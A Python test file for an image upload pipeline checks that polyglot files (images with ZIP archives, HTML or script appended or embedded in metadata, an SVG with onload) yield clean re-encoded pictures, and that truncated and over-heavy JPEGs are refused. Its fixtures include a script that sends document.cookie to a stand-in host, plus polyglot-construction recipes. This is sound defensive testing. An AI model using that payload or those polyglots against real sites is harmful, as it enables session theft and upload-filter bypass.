"""Files that are two things at once: what comes out is a picture and nothing else."""

import io
import zipfile
from collections.abc import Iterator

import pytest
from flask import Flask
from PIL import Image

from swipe.media.encoding import encode
from tests.media import limited
from tests.media.metadata import found_in
from tests.media.samples import FORMATS, chunk, encoded, photo

MIB = 1024 * 1024
SCRIPT = b"<script>fetch('//ond.example/'+document.cookie)</script><!-- 0123456789abcdef -->"


@pytest.fixture(autouse=True)
def _danish(app: Flask) -> Iterator[None]:
    with app.test_request_context():
        yield


def archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("index.html", SCRIPT.decode())
    return out.getvalue()


def with_application_segment(payload: bytes) -> bytes:
    """Return a JPEG that carries a payload in a segment of its own and in a comment."""
    data = encoded(photo(), "JPEG")
    size = (len(payload) + 2).to_bytes(2, "big")
    segments = b"\xff\xef" + size + payload + b"\xff\xfe" + size + payload
    return data[:2] + segments + data[2:]


def png_with_text(payload: bytes) -> bytes:
    data = encoded(photo(), "PNG")
    return data[:33] + chunk(b"tEXt", b"Comment\0" + payload) + data[33:]


def webp_with_chunk(payload: bytes) -> bytes:
    data = encoded(photo(), "WEBP", exif=b"Exif\0\0" + payload, xmp=payload)
    assert payload in data
    return data


HOSTILE = {
    "a JPEG with a ZIP behind it": encoded(photo(), "JPEG") + archive(),
    "a ZIP with a JPEG behind it": archive() + encoded(photo(), "JPEG"),
    "a PNG with a page behind it": encoded(photo(), "PNG") + SCRIPT,
    "a page with a PNG behind it": SCRIPT + encoded(photo(), "PNG"),
    "a GIF that is a script": b"GIF89a/*" + SCRIPT + b"*/=1;alert(1)",
    "a JPEG with a script in it": with_application_segment(SCRIPT),
    "a PNG with a script in it": png_with_text(SCRIPT),
    "a WebP with a script in it": webp_with_chunk(SCRIPT),
    "an AVIF with a script in it": encoded(photo(), "AVIF", xmp=SCRIPT),
    "an AVIF with a page behind it": encoded(photo(), "AVIF") + SCRIPT,
    "a HEIC with a ZIP behind it": encoded(photo(), "HEIF") + archive(),
    "a PNG in the name of a JPEG": b"\xff\xd8\xff\xe0" + encoded(photo(), "PNG"),
    "a WebP around a script": b"RIFF" + (200).to_bytes(4, "little") + b"WEBPVP8 " + SCRIPT * 3,
    "a HEIC of nothing": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + SCRIPT,
    "a drawing in the name of a picture": b"<svg onload='x()'>" + SCRIPT + b"</svg>",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_what_is_hidden_in_a_file_is_in_no_output(name: str) -> None:
    data = HOSTILE[name]
    idle, ended = limited.run(b""), limited.run(data)
    assert ended.peak - idle.peak < 200 * MIB
    if not ended.master:
        assert ended.word in ("unknown", "broken")
        return
    outputs = {"m.jpg": ended.master}
    outputs |= {
        f"{number}.{made.ending}": made.data
        for number, made in enumerate(encode(ended.master, (50, 50)).variants)
    }
    for output, stored in outputs.items():
        assert found_in(output, stored) == []
        hidden = SCRIPT + archive()
        assert not any(hidden[at : at + 16] in stored for at in range(len(hidden) - 15))


@pytest.mark.parametrize("kind", FORMATS)
@pytest.mark.parametrize("part", [0.1, 0.5, 0.9, 0.999])
def test_a_file_that_was_cut_off_is_refused_or_whole(kind: str, part: float) -> None:
    data = encoded(photo((1200, 1600)), kind)
    idle, ended = limited.run(b""), limited.run(data[: int(len(data) * part)])
    assert ended.word in ("broken", "1125 1500")
    assert ended.peak - idle.peak < 200 * MIB


def test_the_scanner_sees_what_must_not_be_there() -> None:
    """The tests above lean on it."""
    exif = Image.Exif()
    exif[0x010F] = "Kamera"
    profile = b"\0" * 128
    for kind, name in (("JPEG", "a.jpg"), ("WEBP", "a.webp"), ("AVIF", "a.avif")):
        plain = encoded(photo(), kind)
        assert found_in(name, plain) == [], kind
        for more in ({"exif": exif}, {"icc_profile": profile}, {"xmp": b"<x:xmpmeta/>"}):
            assert found_in(name, encoded(photo(), kind, **more)), (kind, more)
        assert found_in(name, plain + b"PK\x03\x04")
        assert found_in(name, plain[:-9])
    assert found_in("a.jpg", encoded(photo(), "JPEG", comment=b"hej"))


def of_scans(scans: int, size: tuple[int, int]) -> bytes:
    """Return a progressive JPEG whose last scan, with its table, comes so many times."""
    data = encoded(Image.new("RGB", size, (90, 120, 60)), "JPEG", progressive=True, quality=50)
    last = data[data.rfind(b"\xff\xc4", 0, data.rfind(b"\xff\xda")) : -2]
    return data[:-2] + last * scans + b"\xff\xd9"


def test_a_picture_of_thousands_of_scans_is_too_heavy_before_it_is_decoded() -> None:
    assert limited.run(of_scans(3000, (6000, 6000))).word == "heavy"


def test_what_looks_like_scans_beside_the_picture_is_not_counted() -> None:
    assert limited.run(of_scans(20, (600, 800))).word == "600 800"
    film = with_application_segment(b"\xff\xda\0\x02" * 9000) + b"\xff\xda\0\x02" * 9000
    assert limited.run(film).word == "600 800"
    honest = encoded(photo((3000, 2000), grain=0.9), "JPEG", quality=98, progressive=True)
    assert limited.run(honest).word == "2250 1500"
